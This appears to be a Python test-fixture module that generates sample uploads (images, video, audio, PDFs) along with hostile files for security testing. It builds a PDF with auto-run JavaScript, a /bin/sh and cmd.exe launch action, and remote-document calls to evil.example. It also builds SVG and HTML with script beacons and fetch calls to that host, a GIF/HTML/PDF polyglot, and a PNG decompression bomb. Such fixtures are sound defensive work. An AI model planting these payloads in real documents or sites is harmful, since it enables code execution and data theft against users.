# SPDX-License-Identifier: AGPL-3.0-or-later
"""Files as people send them and as attackers make them, made here.

Rules of this file: nothing is downloaded and nothing lies ready: what a file holds stands in these lines.
"""

from __future__ import annotations

import io
import math
import random
import struct
import zlib
from array import array
from typing import Any, cast

import av
from PIL import Image

EVIL = "http://evil.example/"
"""Where hostile files want to go."""


def picture(kind: str = "JPEG", size: tuple[int, int] = (640, 480)) -> bytes:
    """A picture of noise."""
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, kind)
    return out.getvalue()


def film(kind: str = "webm", seconds: int = 4, size: tuple[int, int] = (320, 240)) -> bytes:
    """A film without sound: VP8 in WebM, or H.264 in MP4."""
    out = io.BytesIO()
    with cast("Any", av).open(out, "w", format=kind) as container:
        stream = container.add_stream({"webm": "libvpx", "mp4": "libx264"}[kind], rate=10)
        stream.width, stream.height, stream.pix_fmt = *size, "yuv420p"
        for _ in range(seconds * 10):
            for packet in stream.encode(cast("Any", av.VideoFrame).from_image(Image.effect_noise(size, 60).convert("RGB"))):
                container.mux(packet)
        for packet in stream.encode():
            container.mux(packet)
    return out.getvalue()


def sound(seconds: int = 3, rate: int = 8_000) -> bytes:
    """A WAV file: a tone."""
    samples = array("h", (int(8_000 * math.sin(at * math.tau * 440 / rate)) for at in range(seconds * rate))).tobytes()
    head = struct.pack("<4sI4s4sIHHIIHH4sI", b"RIFF", 36 + len(samples), b"WAVE", b"fmt ", 16, 1, 1, rate, 2 * rate, 2, 16, b"data", len(samples))
    return head + samples


def scans(pages: int, size: tuple[int, int] = (1_240, 1_754)) -> bytes:
    """A document whose pages are one picture of noise: painted, each is some megabytes."""
    shown = picture("JPEG", size)
    image = f"<< /Type /XObject /Subtype /Image /Width {size[0]} /Height {size[1]} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /DCTDecode"
    kids = " ".join(f"{5 + number} 0 R" for number in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>".encode(),
        f"{image} /Length {len(shown)} >>\nstream\n".encode() + shown + b"\nendstream",
        b"<< /Length 29 >>\nstream\nq 595 0 0 842 0 0 cm /I Do Q\nendstream",
    ]
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 3 0 R >> >> >>"
    return _document(objects + [page] * pages)


def pdf(pages: int = 1, extra: str = "", page_extra: str = "", text: str = "The bridge") -> bytes:
    """A document; `extra` goes into its catalogue and `page_extra` into each page."""
    objects = [f"<< /Type /Catalog /Pages 2 0 R {extra} >>"]
    kids = " ".join(f"{3 + 2 * number} 0 R" for number in range(pages))
    objects.append(f"<< /Type /Pages /Count {pages} /Kids [{kids}] >>")
    for number in range(pages):
        content = f"BT /F1 24 Tf 72 700 Td ({text} {number + 1}) Tj ET"
        font = "<< /Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >> >>"
        box = "/MediaBox [0 0 612 792]"
        objects.append(f"<< /Type /Page /Parent 2 0 R {box} /Contents {4 + 2 * number} 0 R /Resources {font} {page_extra} >>")
        objects.append(f"<< /Length {len(content)} >>\nstream\n{content}\nendstream")
    return _document([body.encode() for body in objects])


def _document(objects: list[bytes]) -> bytes:
    """Objects, the first of them the catalogue, with a table of where they stand."""
    out, places = b"%PDF-1.7\n", list[int]()
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    table = "".join(f"{place:010d} 00000 n \n" for place in places)
    start = len(out)
    table = f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
    return out + f"{table}trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()


def hostile_pdf() -> bytes:
    """A document that runs a script when it is opened, starts a program, and asks for an address; its page is one link."""
    script = f"<< /S /JavaScript /JS (app.launchURL\\('{EVIL}js', true\\); this.submitForm\\('{EVIL}form'\\)) >>"
    launch = "<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>"
    link = f"<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI ({EVIL}link) >> >>"
    remote = f"<< /S /GoToR /F << /FS /URL /F ({EVIL}other.pdf) >> >>"
    return pdf(
        1,
        f"/OpenAction {script} /AA << /WC {launch} >> /Names << /JavaScript << /Names [(a) {script}] >> >>",
        f"/Annots [{link}] /AA << /O {remote} >>",
    )


def bomb(width: int, height: int, lines: int) -> bytes:
    """A small PNG that says to become `width` times `height` points, of which so many lines are there."""
    squeeze = zlib.compressobj(6)
    line = bytes(1 + 3 * width)
    data = b"".join(squeeze.compress(line) for _ in range(lines)) + squeeze.flush()
    out = b"\x89PNG\r\n\x1a\n"
    for name, body in ((b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)), (b"IDAT", data), (b"IEND", b"")):
        out += struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
    return out


def mutated(data: bytes, seed: int, changes: int = 24) -> bytes:
    """The same with bytes changed, pieces doubled, moved, or cut off; its first 16 bytes stay, so that its reader is tried."""
    chance = random.Random(seed)  # noqa: S311 - the same each time
    work = bytearray(data)
    for _ in range(changes):
        at = chance.randrange(16, len(work))
        match chance.randrange(5):
            case 0:
                work[at : at + 4] = chance.randbytes(4)
            case 1:
                work[at] ^= 1 << chance.randrange(8)
            case 2:
                work[at:at] = work[at : at + chance.randrange(64)]
            case 3:
                work[at : at + 4] = b"\xff\xff\xff\xff"
            case _:
                del work[at : at + chance.randrange(16)]
    return bytes(work[: chance.randrange(len(work) // 2, len(work))] if seed % 3 == 0 else work)


def program(how: str) -> bytes:
    """SVG or HTML that would run a script, set a mark, and load from elsewhere."""
    script = f"document.title='script ran';new Image().src='{EVIL}beacon';fetch('{EVIL}fetch')"
    if how == "svg":
        return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script}"><script>{script}</script><image href="{EVIL}image"/></svg>'.encode()
    return f'<!doctype html><script>{script}</script><img src="{EVIL}image" onerror="{script}"><iframe src="{EVIL}frame">'.encode()


def polyglot() -> bytes:
    """A GIF whose comment is HTML with a script, and whose end is a document with one."""
    out = io.BytesIO()
    Image.new("P", (16, 16)).save(out, "GIF", comment=program("html")[:250])
    return out.getvalue() + program("html") + hostile_pdf()
